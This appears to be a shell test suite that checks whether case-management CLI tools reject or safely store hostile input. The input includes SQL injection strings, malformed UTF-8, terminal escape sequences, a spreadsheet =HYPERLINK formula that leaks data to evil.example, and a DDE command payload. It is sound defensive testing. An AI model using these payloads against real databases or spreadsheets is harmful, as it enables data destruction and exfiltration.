#!/bin/sh
# Hostile input, table-driven, across all five binaries: SQL injection in
# every text field and option, invalid and overlong UTF-8, NUL bytes,
# control and bidi characters, huge fields and huge id streams, negative
# and overflowing numbers, years 0 and 10000, spreadsheet formulas,
# repeated CSV columns, folders where files belong, and databases that
# are not ours.  Each entry either is refused with a clear message and
# leaves the database unchanged, or (legitimate text) is stored and read
# back byte for byte.
. "$TESTS/cli/lib.sh"

# ---- the two kinds of entry -----------------------------------------------

# refuses NAME STATUS MESSAGE STDIN CMD ARGS...
#   CMD exits STATUS, prints nothing on stdout, its stderr contains
#   MESSAGE, and the database is unchanged.  STDIN is a file for standard
#   input, or - for none.
refuses() {
	_name=$1
	_st=$2
	_msg=$3
	_in=$4
	shift 4
	[ "$_in" = - ] && _in=/dev/null
	snapshot
	run_in "$_in" "$@"
	if [ "$rc" -eq "$_st" ] && [ ! -s "$T/out" ] &&
		grep -qF -- "$_msg" "$T/err"; then
		ok "$_name: exit $_st and a clear message"
	else
		not_ok "$_name (expected exit $_st, no stdout, stderr with: $_msg)"
		show_v
	fi
	check_unchanged "$_name: the database is unchanged"
}

# _show, with bytes that are not text made visible (cat -v), so that raw
# hostile bytes never reach the TAP stream.
show_v() {
	diag "command status: $rc" "stdout:"
	cat -v "$T/out" | sed 's/^/#   /'
	diag "stderr:"
	cat -v "$T/err" | sed 's/^/#   /'
}

# The bytes of a file in upper-case hex, as SQLite's hex() writes them.
hexof() {
	od -An -v -tx1 "$1" | tr -d ' \n' | tr abcdef ABCDEF
}

# TSV as the writers escape it: backslash, tab, newline and CR.
tsv_escape() {
	sed -z -e 's/\\/\\\\/g' -e 's/\t/\\t/g' -e 's/\r/\\r/g' -e 's/\n/\\n/g' "$1"
}

# stores NAME WHERE VALUE STDIN CMD ARGS...
#   CMD exits 0 and the text VALUE lands byte for byte where WHERE says:
#     cases.COLUMN         in the case whose id CMD prints last
#     units.COLUMN:CODE    in that unit
#     supervisors.COLUMN:LEVEL
#     events.COLUMN        in the newest event
#   It is read back twice: as bytes through sqlite3's hex(), and through
#   the binaries' own TSV output.
stores() {
	_name=$1
	_where=$2
	_in=$4
	printf '%s' "$3" >"$T/want"
	shift 4
	[ "$_in" = - ] && _in=/dev/null
	run_in "$_in" "$@"
	if [ "$rc" -ne 0 ]; then
		not_ok "$_name: exit 0"
		show_v
		return
	fi
	_tbl=${_where%%.*}
	_col=${_where#*.}
	_key=${_col#*:}
	_col=${_col%%:*}
	case $_tbl in
	cases)
		_key=$(tail -n 1 "$T/out")
		_sqlkey="id = $_key"
		case-report -l -F tsv -H --pii -c "id,$_col" >"$T/rb" 2>&1
		_f=2
		;;
	units)
		_sqlkey="code = '$_key'"
		case-admin unit list -F tsv -H >"$T/rb" 2>&1
		_f=$(echo "code name type parent place chief contact" |
			tr ' ' '\n' | grep -nx "$_col" | cut -d: -f1)
		;;
	supervisors)
		_sqlkey="level = $_key"
		case-admin supervisor list -F tsv -H >"$T/rb" 2>&1
		_f=$(echo "level name contact" | tr ' ' '\n' | grep -nx "$_col" |
			cut -d: -f1)
		;;
	events)
		_key=$(sql "SELECT max(id) FROM events")
		_sqlkey="id = $_key"
		case-report --events -F tsv -H >"$T/rb" 2>&1
		_f=$(echo "event at case actor action status level detail" |
			tr ' ' '\n' | grep -nx "$_col" | cut -d: -f1)
		;;
	esac
	_got=$(sql "SELECT hex($_col) FROM $_tbl WHERE $_sqlkey")
	if [ "$_got" = "$(hexof "$T/want")" ]; then
		ok "$_name: stored byte for byte"
	else
		not_ok "$_name: stored byte for byte"
		diag "want hex: $(hexof "$T/want")" "got hex:  $_got"
	fi
	awk -F '\t' -v k="$_key" '$1 == k' "$T/rb" | cut -f "$_f" |
		tr -d '\n' >"$T/got"
	tsv_escape "$T/want" >"$T/want.tsv"
	if cmp -s "$T/want.tsv" "$T/got"; then
		ok "$_name: read back exactly"
	else
		not_ok "$_name: read back exactly"
		diag "want: $(cat -v "$T/want.tsv")" "got:  $(cat -v "$T/got")"
	fi
}

# A file outside the database is byte for byte what it was.
file_kept() {
	if cmp -s "$1" "$2"; then ok "$3"; else not_ok "$3"; fi
}

# ---- hostile strings ------------------------------------------------------

SQLI="x'); DROP TABLE cases;--"
SQLI2='" OR 1=1 --'
SQLI3="' OR '1'='1"
SQLI4="Robert'); DROP TABLE students;--"
OVER2=$(printf '\300\257')          # '/' overlong in two bytes
OVER3=$(printf '\340\200\257')      # ... in three
OVER4=$(printf '\360\200\200\257')  # ... in four
SURR=$(printf '\355\240\200')       # a UTF-16 surrogate, U+D800
ESC=$(printf '\033[2J\033[31m')     # clear the screen, go red
BEL=$(printf '\007')
DEL=$(printf '\177')
RLO=$(printf '\342\200\256')        # U+202E RIGHT-TO-LEFT OVERRIDE
LRI=$(printf '\342\201\246')        # U+2066 LEFT-TO-RIGHT ISOLATE
PDI=$(printf '\342\201\251')        # U+2069 POP DIRECTIONAL ISOLATE

# ---- a database with work in it ---------------------------------------------

case-admin -q init
case-admin unit add pcs-qianjin 前进派出所 --type police --place chaoyang/qianjin
case-admin unit add med-qianjin 前进调解室 --type judicial
case-open -q -k dispute -c noise -l chaoyang/qianjin/huayu/g07 楼下噪音 >/dev/null
case-open -q -k hazard -c gas -l chaoyang/qianjin/huayu/g08 楼道煤气味 >/dev/null
case-open -q -k request -c lamp -l chaoyang/qianjin/huayu/g09 路灯不亮 >/dev/null
case-assign -q -u pcs-qianjin 2 3 >/dev/null
case-followup resolve -q -m 已修复 3 >/dev/null
mkdir "$T/somedir"
csv() { printf "$@" >"$T/in.csv"; }

# ---- SQL injection: stored as text where it is text ---------------------------

stores "case-open summary: SQL injection" cases.summary "$SQLI" - \
	case-open -k request "$SQLI"
stores "case-open --place: SQL injection" cases.place "chaoyang/$SQLI2" - \
	case-open -k request --place "chaoyang/$SQLI2" 地点注入
place_id=$_key
stores "case-open --category: SQL injection" cases.category "$SQLI3" - \
	case-open -k request --category "$SQLI3" 类别注入
stores "case-open --ref: SQL injection" cases.ref "r'; DELETE FROM cases;--" - \
	case-open -k request --ref "r'; DELETE FROM cases;--" 编号注入
stores "case-open --address: SQL injection" cases.address "$SQLI" - \
	case-open -k request --address "$SQLI" 地址注入
stores "case-open --reporter: SQL injection" cases.reporter "$SQLI4" - \
	case-open -k request --reporter "$SQLI4" 报告人注入
stores "case-open --contact: SQL injection" cases.contact "$SQLI2" - \
	case-open -k request --contact "$SQLI2" 联系方式注入
stores "case-open --source: SQL injection" cases.source "$SQLI3" - \
	case-open -k request --source "$SQLI3" 来源注入
stores "case-open --description: SQL injection" cases.description "$SQLI" - \
	case-open -k request --description "$SQLI" 描述注入
stores "case-open --actor: SQL injection in the journal" events.actor \
	"x'); DROP TABLE events;--" - \
	case-open -q -k request --actor "x'); DROP TABLE events;--" 操作人注入
csv 'kind,"x""); DROP TABLE cases;--"\nrequest,"%s"\n' "$SQLI"
stores "CSV: a header named with SQL, mapped by --map" cases.summary "$SQLI" \
	"$T/in.csv" case-open -f - --map "summary=x\"); DROP TABLE cases;--"
stores "case-followup note: SQL injection in the message" events.detail \
	"$SQLI" - case-followup note -m "$SQLI" 1
stores "case-admin unit add: SQL injection in the name" units.name:u-sqli \
	"$SQLI" - case-admin unit add u-sqli "$SQLI"
stores "case-admin unit add --chief: SQL injection" units.chief:u-chief \
	"$SQLI2" - case-admin unit add u-chief 某单位 --chief "$SQLI2"
stores "case-admin unit add --place: SQL injection" units.place:u-place \
	"chaoyang/$SQLI3" - case-admin unit add u-place 某单位 --place "chaoyang/$SQLI3"
stores "case-admin supervisor set: SQL injection in the name" \
	supervisors.name:2 "$SQLI" - case-admin supervisor set 2 "$SQLI"
csv 'code,name\nu-csv,"x""); DROP TABLE units;--"\n'
stores "case-admin unit import: SQL injection in a field" units.name:u-csv \
	'x"); DROP TABLE units;--' "$T/in.csv" case-admin -q unit import -

# ---- SQL injection: refused where the option is a word from a list ---------

refuses "case-open --kind: SQL injection" 2 "unknown kind" - \
	case-open -k "request' OR 1=1 --" x
refuses "case-open --priority: SQL injection" 2 "unknown priority" - \
	case-open -k request -p "high'); DROP TABLE cases;--" x
refuses "case-open --due: SQL injection" 2 "bad time 'now'); DROP TABLE cases;--'" - \
	case-open -k request --due "now'); DROP TABLE cases;--" x
refuses "case-open --map: SQL injection as a field name" 2 "--map: unknown field" - \
	case-open -f - --map "summary'); DROP TABLE cases;--=x"
csv 'kind,summary\nrequest,x\n'
refuses "case-open --map: SQL injection as a column name" 1 \
	"no such column in the header" "$T/in.csv" \
	case-open -f - --map "summary=x'); DROP TABLE cases;--"
refuses "case-assign --unit: SQL injection" 1 "unknown unit 'pcs-qianjin' OR 1=1 --'" - \
	case-assign -u "pcs-qianjin' OR 1=1 --" 1
refuses "case-assign --support: SQL injection" 1 "unknown unit" - \
	case-assign -u pcs-qianjin -s "x'); DROP TABLE units;--" 1
refuses "case-assign --release: SQL injection" 1 "unknown unit" - \
	case-assign -r "pcs-qianjin'--" 2
refuses "case-followup visit --outcome: SQL injection" 2 "unknown outcome" - \
	case-followup visit -o "satisfied' OR 1=1 --" 3
refuses "case-followup visit --method: SQL injection" 2 "unknown method" - \
	case-followup visit -o satisfied --method "phone'--" 3
refuses "case-followup due --unit: SQL injection" 1 "unknown unit" - \
	case-followup due --unit "x' OR 1=1 --"
refuses "case-report --unit: SQL injection" 2 "--unit: bad unit code" - \
	case-report -l -u "pcs-qianjin' OR 1=1 --"
refuses "case-report --columns: SQL injection" 2 "--columns: unknown column" - \
	case-report -l -c "id,summary FROM cases; DROP TABLE cases;--"
refuses "case-report --group: SQL injection" 2 "--group: unknown field" - \
	case-report -g "kind); DROP TABLE cases;--"
refuses "case-report --kind: SQL injection" 2 "--kind: bad value 'request' OR 1=1 --'" - \
	case-report -l -k "request' OR 1=1 --"
refuses "case-report --status: SQL injection" 2 "--status: bad value 'open' OR 1=1 --'" - \
	case-report -l -s "open' OR 1=1 --"
refuses "case-admin unit add: SQL injection in the code" 2 "bad unit code" - \
	case-admin unit add "u'); DROP TABLE units;--" 某单位
refuses "case-admin unit add --parent: SQL injection" 2 "" - \
	case-admin unit add u-x 某单位 --parent "x' OR 1=1 --"
refuses "case-admin policy: SQL injection in the key" 2 "unknown policy key" - \
	case-admin policy "due.high'; DROP TABLE policy;--" 3d
refuses "case-admin policy: SQL injection in the value" 2 "bad duration" - \
	case-admin policy due.high "3d'; DROP TABLE policy;--"
refuses "case-admin supervisor set: SQL injection in the level" 2 "bad level" - \
	case-admin supervisor set "1; DROP TABLE supervisors" x
csv 'code,"n""); DROP TABLE units;--"\nu-y,a\n'
refuses "case-admin unit import: SQL injection in the header" 1 "unknown column" \
	"$T/in.csv" case-admin unit import -

# Filters are values, not SQL: an injection matches nothing (the listing is
# empty) instead of everything.
for f in "--place chaoyang/qianjin' OR 1=1 --" "--search $SQLI3" \
	"--category $SQLI2" "--place %" "--category %" "--search %"; do
	opt=${f%% *}
	val=${f#* }
	snapshot
	run case-report -l -F csv -H -c id "$opt" "$val"
	if [ "$rc" -eq 0 ] && [ ! -s "$T/out" ] && [ ! -s "$T/err" ]; then
		ok "case-report $opt '$val': no rows, no error"
	else
		not_ok "case-report $opt '$val': no rows, no error"
		show_v
	fi
	check_unchanged "case-report $opt '$val': the database is unchanged"
done
run case-report -l -F csv -H -c id --place "chaoyang/$SQLI2"
check_out "$place_id" "case-report --place finds the place that holds SQL, exactly"
run case-followup due --place "chaoyang/qianjin' OR 1=1 --"
expect "case-followup due --place: SQL injection matches nothing" 0 "" ""

# ---- a --db path with quotes is only a file name -----------------------------

QDB="$T/q'uo\"te; DROP TABLE cases;--.db"
snapshot
case-admin -q --db "$QDB" init
run case-open --db "$QDB" -k request 引号路径
check_out "1" "--db with quotes and SQL: a new database there, case 1"
[ -f "$QDB" ] && ok "--db with quotes: the file has exactly that name" ||
	not_ok "--db with quotes: the file has exactly that name"
run case-report --db "$QDB" -l -F csv -H -c id,summary
check_out "1,引号路径" "--db with quotes: case-report reads it back"
run case-admin --db "$QDB" check
expect "--db with quotes: check passes" 0 "" ""
check_unchanged "--db with quotes: the usual database is unchanged"

# ---- invalid UTF-8, overlong forms and surrogates -----------------------------

refuses "case-open summary: overlong C0 AF" 2 "summary is not valid UTF-8 at byte 2" - \
	case-open -k request "a${OVER2}b"
refuses "case-open --category: overlong E0 80 AF" 2 \
	"category is not valid UTF-8 at byte 1" - case-open -k request -c "$OVER3" x
refuses "case-open --place: overlong F0 80 80 AF" 2 \
	"place is not valid UTF-8 at byte 1" - case-open -k request -l "$OVER4" x
refuses "case-open --reporter: surrogate ED A0 80" 2 \
	"reporter is not valid UTF-8 at byte 1" - case-open -k request --reporter "$SURR" x
refuses "case-open --actor: overlong C0 AF" 2 "the actor is not valid UTF-8" - \
	case-open -k request --actor "a$OVER2" x
csv 'kind,summary\nrequest,"a%sb"\n' "$OVER2"
refuses "CSV field: overlong C0 AF" 1 "stdin:2: summary is not valid UTF-8 at byte 2" \
	"$T/in.csv" case-open -f -
csv 'kind,summary,address\nrequest,x,"%s"\n' "$SURR"
refuses "CSV field: surrogate ED A0 80" 1 "stdin:2: address is not valid UTF-8" \
	"$T/in.csv" case-open -f -
csv 'kind,summary,category\nrequest,x,%s\n' "$OVER4"
refuses "CSV field: overlong F0 80 80 AF" 1 "stdin:2: category is not valid UTF-8" \
	"$T/in.csv" case-open -f -
refuses "case-followup note: overlong E0 80 AF" 2 "--message is not valid UTF-8" - \
	case-followup note -m "x$OVER3" 1
refuses "case-assign --note: surrogate" 2 "--note is not valid UTF-8" - \
	case-assign -u pcs-qianjin -m "$SURR" 1
refuses "case-assign --unit: overlong, quoted in the message" 1 \
	"unknown unit '\\xc0\\xaf'" - case-assign -u "$OVER2" 1
refuses "case-admin unit add: overlong in the name" 2 "the name is not valid UTF-8" - \
	case-admin unit add u-bad "$OVER3"
refuses "case-admin supervisor set: surrogate in the name" 2 \
	"the name is not valid UTF-8" - case-admin supervisor set 1 "$SURR"
csv 'code,name\nu-bad,%s\n' "$OVER2"
refuses "case-admin unit import: overlong in a field" 1 "name is not valid UTF-8" \
	"$T/in.csv" case-admin unit import -
refuses "case-report --search: overlong" 2 "--search is not valid UTF-8" - \
	case-report -l --search "$OVER2"
# A filter that can never match stored text (which is always valid UTF-8)
# is an error, as --search already is, not a silent empty answer.
refuses "case-report --place: overlong" 2 "not valid UTF-8" - \
	case-report -l --place "$OVER2"
refuses "case-report --category: surrogate" 2 "not valid UTF-8" - \
	case-report -l --category "$SURR"
refuses "case-followup due --place: overlong" 2 "not valid UTF-8" - \
	case-followup due --place "$OVER3"
# Bytes that are not UTF-8 are quoted as \xNN in messages, never echoed.
refuses "case-report --group: invalid bytes quoted in the message" 2 \
	"unknown field '\\xc0\\xaf'" - case-report -g "$OVER2"
refuses "case-report --columns: invalid bytes quoted in the message" 2 \
	"unknown column '\\xc0\\xaf'" - case-report -l -c "$OVER2"

# ---- NUL bytes ------------------------------------------------------------

csv 'kind,summary\nrequest,a\000b\n'
refuses "CSV field with a NUL byte" 1 "stdin:2: field 2 contains a NUL byte" \
	"$T/in.csv" case-open -f -
csv 'kind,summary\nrequest,"a\000b"\n'
refuses "CSV quoted field with a NUL byte" 1 "contains a NUL byte" \
	"$T/in.csv" case-open -f -
csv 'code,name\nu-nul,a\000b\n'
refuses "unit import field with a NUL byte" 1 "stdin:2: field 2 contains a NUL byte" \
	"$T/in.csv" case-admin unit import -
printf '1\n2\0003\n3\n' >"$T/ids"
refuses "ids on stdin with a NUL byte (case-followup)" 1 "line 2: contains a NUL byte" \
	"$T/ids" case-followup note -m x
refuses "ids on stdin with a NUL byte (case-assign)" 1 "line 2: contains a NUL byte" \
	"$T/ids" case-assign -u med-qianjin
snapshot
run_in "$T/ids" case-report --show -F csv
if [ "$rc" -eq 1 ] && grep -qF "line 2: contains a NUL byte" "$T/err"; then
	ok "ids on stdin with a NUL byte (case-report --show): exit 1, named"
else
	not_ok "ids on stdin with a NUL byte (case-report --show): exit 1, named"
	show_v
fi

# ---- control and bidi characters --------------------------------------------

refuses "summary with an ESC sequence" 2 "summary contains control character 0x1b at byte 1" - \
	case-open -k request "${ESC}红字"
refuses "summary with BEL" 2 "summary contains control character 0x07" - \
	case-open -k request "响铃$BEL"
refuses "summary with DEL" 2 "summary contains control character 0x7f" - \
	case-open -k request "删除$DEL"
refuses "summary with a newline (one line only)" 2 "(it must be one line)" - \
	case-open -k request "$(printf 'a\nb')"
refuses "place with a tab (one line only)" 2 "control character 0x09" - \
	case-open -k request -l "$(printf 'a\tb')" x
refuses "description with ESC (prose still refuses controls)" 2 \
	"description contains control character 0x1b" - \
	case-open -k request -d "第一行${ESC}" x
csv 'kind,summary\nrequest,"a\rb"\n'
refuses "CSV: CR inside a one-line field" 1 "control character 0x0d" \
	"$T/in.csv" case-open -f -
csv 'kind,summary\nrequest,a%sb\n' "$ESC"
refuses "CSV: ESC in a field" 1 "control character 0x1b" "$T/in.csv" case-open -f -
refuses "case-followup note with an OSC title sequence" 2 "control character 0x1b" - \
	case-followup note -m "$(printf 'x\033]0;owned\007')" 1
refuses "case-followup --actor with ESC" 2 "the actor contains control character 0x1b" - \
	case-followup note --actor "a$ESC" -m x 1
refuses "case-admin unit add: BEL in the name" 2 "control character 0x07" - \
	case-admin unit add u-bel "a$BEL"
# Bidi controls are characters people paste from real text (Arabic,
# Hebrew, mixed-script addresses): stored and read back exactly.
stores "summary with U+202E and U+2066..U+2069 (bidi)" cases.summary \
	"abc${RLO}fed ${LRI}שלום${PDI} 噪音" - \
	case-open -k request "abc${RLO}fed ${LRI}שלום${PDI} 噪音"
stores "address with U+202E (bidi)" cases.address "3号楼${RLO}B座" - \
	case-open -k request -a "3号楼${RLO}B座" 双向地址
stores "description: newlines, tabs, CR and backslashes are prose" cases.description \
	"$(printf '第一行\r\n第二行\t缩进 C:\\\\path\\\\n')" - \
	case-open -k request -d "$(printf '第一行\r\n第二行\t缩进 C:\\\\path\\\\n')" 多行描述
csv 'kind,summary,description\nrequest,%s,"%s"\n' "CSV${RLO}双向" "$(printf 'l1\r\nl2\t"" \\\\ end')"
stores "CSV: bidi in the summary" cases.summary "CSV${RLO}双向" "$T/in.csv" \
	case-open -f -
stores "CSV: CRLF, tab, quote and backslash in the description" cases.description \
	"$(printf 'l1\r\nl2\t" \\\\ end')" "$T/in.csv" case-open -f -
stores "case-followup note: bidi and newlines in the message" events.detail \
	"$(printf '已联系\n%s反向' "$RLO")" - \
	case-followup note -m "$(printf '已联系\n%s反向' "$RLO")" 1

# ---- huge fields and huge id streams ------------------------------------

big() { head -c "$1" /dev/zero | tr '\0' x; }
{ printf 'kind,summary,description\nrequest,big,'; big 10485760; printf '\n'; } >"$T/big.csv"
refuses "CSV: a 10 MB field" 1 "a record longer than 4194304 bytes" - \
	case-open -f "$T/big.csv"
{ printf 'kind,summary,description\nrequest,big,"'; big 10485760; printf '"\n'; } >"$T/big.csv"
refuses "CSV: a 10 MB quoted field, with --skip-bad" 1 "a record longer than" - \
	case-open --skip-bad -f "$T/big.csv"
{ printf 'code,name\nu-big,'; big 10485760; printf '\n'; } >"$T/big.csv"
refuses "unit import: a 10 MB field" 1 "a record longer than" "$T/big.csv" \
	case-admin unit import -
# One argument can hold at most 128 kB on Linux; that is far beyond every
# field's limit.
refuses "summary of 100 kB" 2 "summary is 100000 bytes long (at most 1024)" - \
	case-open -k request "$(big 100000)"
refuses "a note of 100 kB" 2 "--message is 100000 bytes long (at most 65536)" - \
	case-followup note -m "$(big 100000)" 1
refuses "--place of 100 kB" 2 "place is 100000 bytes long" - \
	case-open -k request -l "$(big 100000)" x
refuses "--actor of 100 kB" 2 "the actor" - \
	case-open -k request --actor "$(big 100000)" x
big 10485760 | tr x 1 >"$T/bigid"
refuses "a 10 MB id on stdin" 1 "is too large" "$T/bigid" case-followup note -m x

# Many ids, most of them missing, through each batch command.  On a
# server each id is a few round trips (its savepoint, its look-up), so
# there the run is 10,000 ids, which tells the same; a file takes 100,000.
NIDS=100000
[ "$BACKEND" = pg ] && NIDS=10000
ncases=$(sql "SELECT count(*) FROM cases")
seq 1 $NIDS >"$T/ids"
missing=$((NIDS - ncases))
refuses "100,000 ids on stdin, most missing (case-followup note)" 1 \
	"$missing of $NIDS cases failed; nothing changed" "$T/ids" \
	case-followup note -m 批量
n=$(grep -c ": no such case$" "$T/err")
[ "$n" -eq "$missing" ] && ok "100,000 ids: every missing case is reported ($n)" ||
	not_ok "100,000 ids: every missing case is reported ($n of $missing)"
grep -q "^case-followup: case $NIDS: no such case$" "$T/err" &&
	ok "100,000 ids: the last one too" || not_ok "100,000 ids: the last one too"
refuses "100,000 ids on stdin, most missing (case-assign)" 1 \
	"$missing of $NIDS cases failed; nothing changed" "$T/ids" \
	case-assign -u med-qianjin
snapshot
run_in "$T/ids" case-report --show -F tsv -H
n=$(grep -c ": no such case$" "$T/err")
shown=$(cut -f3 "$T/out" | sort -u | wc -l)
if [ "$rc" -eq 1 ] && [ "$n" -eq "$missing" ] && [ "$shown" -eq "$ncases" ]; then
	ok "100,000 ids to case-report --show: $ncases shown, $n reported missing, exit 1"
else
	not_ok "100,000 ids to case-report --show (exit $rc, $shown shown, $n missing)"
fi
check_unchanged "100,000 ids to case-report --show: the database is unchanged"

# ---- negative and overflowing durations and ids ------------------------------

refuses "--within -3d" 2 "durations cannot be negative" - \
	case-followup due --within -3d
refuses "--within 99999999999d" 2 "longer than 100 years" - \
	case-followup due --within 99999999999d
refuses "--visit-after -3d" 2 "durations cannot be negative" - \
	case-followup resolve -m x --visit-after -3d 2
refuses "--visit-after 99999999999d" 2 "longer than 100 years" - \
	case-followup resolve -m x --visit-after 99999999999d 2
refuses "--visit-after 9223372036854775807m" 2 "bad duration" - \
	case-followup resolve -m x --visit-after 9223372036854775807m 2
refuses "case-followup ics --within -1w" 2 "durations cannot be negative" - \
	case-followup ics --within -1w
refuses "policy due.high 99999999999d" 2 "longer than 100 years" - \
	case-admin policy due.high 99999999999d
refuses "policy due.high -1d" 2 "bad duration" - \
	case-admin policy -- due.high -1d
refuses "policy followup.attempts 99999999999" 2 "expected a whole number from 1 to 100" - \
	case-admin policy followup.attempts 99999999999
refuses "policy followup.attempts -1" 2 "expected a whole number" - \
	case-admin policy -- followup.attempts -1
refuses "id -1" 1 "bad case id '-1' (expected a positive whole number)" - \
	case-followup note -m x -- -1
refuses "id 0" 1 "bad case id '0'" - case-followup note -m x 0
refuses "id 99999999999999999999" 1 "case id '99999999999999999999' is too large" - \
	case-assign -u pcs-qianjin 99999999999999999999
refuses "id 1e5" 1 "bad case id '1e5'" - case-followup resolve -m x 1e5
refuses "id 9223372036854775807 (the largest): no such case" 1 \
	"case 9223372036854775807: no such case" - \
	case-followup note -m x 9223372036854775807
refuses "id 9223372036854775808 (one past)" 1 "is too large" - \
	case-followup note -m x 9223372036854775808
printf '0x10\n+1\n 2x\n' >"$T/ids"
refuses "ids 0x10, +1, 2x on stdin" 1 "3 of 3 cases failed" "$T/ids" \
	case-followup note -m x
refuses "case-report --show -1" 1 "bad case id '-1'" - case-report --show -- -1
refuses "case-report --after -5" 2 "--after" - case-report --events --after -5
refuses "case-report --level 4" 2 "--level: expected 0, 1, 2 or 3" - \
	case-report --level 4
refuses "CASE_BUSY_TIMEOUT=-1" 1 "CASE_BUSY_TIMEOUT: bad value '-1'" - \
	env CASE_BUSY_TIMEOUT=-1 case-open -k request x
refuses "CASE_BUSY_TIMEOUT=99999999999999999999" 1 "CASE_BUSY_TIMEOUT: bad value" - \
	env CASE_BUSY_TIMEOUT=99999999999999999999 case-open -k request x

# ---- years 0 and 10000 ------------------------------------------------------

refuses "--at in year 0" 2 "year 0 does not exist" - \
	case-open -k request --at 0000-01-01 x
refuses "--at in year 10000" 2 "bad time '10000-01-01'" - \
	case-open -k request --at 10000-01-01 x
refuses "--due in year 0" 2 "year 0 does not exist" - \
	case-open -k request --due 0000-12-31T23:59:59Z x
refuses "--due in year 10000" 2 "bad time '10000-01-01T00:00'" - \
	case-open -k request --due 10000-01-01T00:00 x
refuses "case-assign --due in year 10000" 2 "bad time" - \
	case-assign -u pcs-qianjin --due 10000-06-01 1
refuses "case-followup schedule --at in year 0" 2 "year 0 does not exist" - \
	case-followup schedule --at 0000-01-01 3
refuses "--since in year 0" 2 "year 0 does not exist" - case-report --since 0000-01-01
refuses "--until in year 10000" 2 "bad time" - case-report --until 10000-01-01
refuses "--events --since in year 10000" 2 "bad time" - \
	case-report --events --since 10000-01-01
csv 'kind,summary,opened_at\nrequest,x,0000-01-01\n'
refuses "CSV opened_at in year 0" 1 "stdin:2: opened_at: bad time '0000-01-01': year 0" \
	"$T/in.csv" case-open -f -
csv 'kind,summary,opened_at\nrequest,x,10000-01-01T00:00:00Z\n'
refuses "CSV opened_at in year 10000" 1 "stdin:2: opened_at: bad time" \
	"$T/in.csv" case-open -f -
csv 'kind,summary,due_at\nrequest,x,+99999999d\n'
refuses "CSV due_at a huge relative time" 1 "stdin:2: due_at" \
	"$T/in.csv" case-open -f -
refuses "--at a relative time past year 9999" 2 "" - \
	case-open -k request --at -99999999d x

# ---- spreadsheet formulas: text when stored, neutralised on request ----------

f1='=HYPERLINK("http://evil.example/?d="&A1,"详情")'
f2='+1+1'
f3='-2'
f4='@SUM(A1)'
stores "formula =HYPERLINK stored as text" cases.summary "$f1" - \
	case-open -k request "$f1"
id1=$_key
stores "formula +1+1 stored as text" cases.summary "$f2" - \
	case-open -k request -- "$f2"
id2=$_key
stores "formula -2 stored as text" cases.category "$f3" - \
	case-open -k request -c "$f3" 负数类别
id3=$_key
csv 'kind,summary,address\nrequest,"%s","=cmd|'"'"'/C calc'"'"'!A0"\n' "$f4"
stores "formula @SUM(A1) from CSV stored as text" cases.summary "$f4" \
	"$T/in.csv" case-open -f -
id4=$_key
check_sql "the DDE address from CSV is stored as text" "=cmd|'/C calc'!A0" \
	"SELECT address FROM cases WHERE id = $id4"
ids="$id1 $id2 $id3 $id4"
pick() { awk -F "$1" -v ids=" $ids " 'index(ids, " " $1 " ")' "$T/out"; }
run case-report -l -F csv -H --spreadsheet -c id,summary,category,address
pick , >"$T/picked"
printf '%s\n' "$id1,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"详情\"\")\",," \
	"$id2,\"'+1+1\",," "$id3,负数类别,\"'-2\"," \
	"$id4,\"'@SUM(A1)\",,\"'=cmd|'/C calc'!A0\"" >"$T/want"
cmp -s "$T/want" "$T/picked" && ok "--spreadsheet: csv cells start with a quote" || {
	not_ok "--spreadsheet: csv cells start with a quote"
	diff "$T/want" "$T/picked" | sed 's/^/#   /'
}
run case-report -l -F tsv -H --spreadsheet -c id,summary,category,address
pick '\t' >"$T/picked"
printf '%s\t%s\t%s\t%s\n' "$id1" "'$f1" "" "" "$id2" "'$f2" "" "" \
	"$id3" 负数类别 "'$f3" "" "$id4" "'$f4" "" "'=cmd|'/C calc'!A0" >"$T/want"
cmp -s "$T/want" "$T/picked" && ok "--spreadsheet: tsv cells start with a quote" || {
	not_ok "--spreadsheet: tsv cells start with a quote"
	diff "$T/want" "$T/picked" | sed 's/^/#   /'
}
run case-report -l -F text --spreadsheet -c id,summary,category,address
for f in "$f1" "$f2" "$f3" "$f4" "=cmd|'/C calc'!A0"; do
	if grep -qF -- "'$f" "$T/out" && ! grep -qE -- "(^| )$(printf '%s' "$f" |
		sed 's/[][\.*^$+?(){}|/]/\\&/g')" "$T/out"; then
		ok "--spreadsheet: text neutralises $f"
	else
		not_ok "--spreadsheet: text neutralises $f"
		show_v
	fi
done
run case-report -l -F csv -H -c id,summary,category
pick , >"$T/picked"
printf '%s\n' "$id1,\"=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"详情\"\")\"," \
	"$id2,+1+1," "$id3,负数类别,-2" "$id4,@SUM(A1)," >"$T/want"
cmp -s "$T/want" "$T/picked" && ok "without --spreadsheet, csv gives the text as stored" || {
	not_ok "without --spreadsheet, csv gives the text as stored"
	diff "$T/want" "$T/picked" | sed 's/^/#   /'
}

# ---- CSV headers that repeat a column -------------------------------------

csv 'kind,summary,Summary\nrequest,a,b\n'
refuses "CSV header repeats a column (other case)" 1 \
	"stdin:1: column 'Summary' appears twice in the header" "$T/in.csv" case-open -f -
csv 'kind,summary, kind \nrequest,a,hazard\n'
refuses "CSV header repeats a column (padded)" 1 "column 'kind' appears twice" \
	"$T/in.csv" case-open -f -
csv 'kind,summary,desc,desc\nrequest,a,b,c\n'
refuses "CSV header repeats an unknown column" 1 "column 'desc' appears twice" \
	"$T/in.csv" case-open -f -
csv 'code,name,name\nu-dup,a,b\n'
refuses "unit import header repeats a column" 1 "column 'name' appears twice" \
	"$T/in.csv" case-admin unit import -

# ---- a folder given as standard input or as a file --------------------------

refuses "case-assign -u X < a folder" 1 "cannot read ids: Is a directory" \
	"$T/somedir" case-assign -u pcs-qianjin
refuses "case-open -f - < a folder" 1 "stdin: is a folder, not a CSV file" \
	"$T/somedir" case-open -f -
refuses "case-admin unit import - < a folder" 1 "stdin: is a folder, not a CSV file" \
	"$T/somedir" case-admin unit import -
refuses "case-followup note < a folder" 1 "cannot read ids: Is a directory" \
	"$T/somedir" case-followup note -m x
refuses "case-report --show < a folder" 1 "cannot read ids: Is a directory" \
	"$T/somedir" case-report --show
refuses "case-open -f a folder" 1 "is a folder, not a CSV file" - \
	case-open -f "$T/somedir"
refuses "case-admin unit import a folder" 1 "is a folder, not a CSV file" - \
	case-admin unit import "$T/somedir"

# ---- databases that are not databases, or not ours ----------------------------

refuses "--db a folder (writer)" 1 "$T/somedir is a folder, not a database" - \
	case-open --db "$T/somedir" -k request x
refuses "--db a folder (reader)" 1 "is a folder, not a database" - \
	case-report --db "$T/somedir"
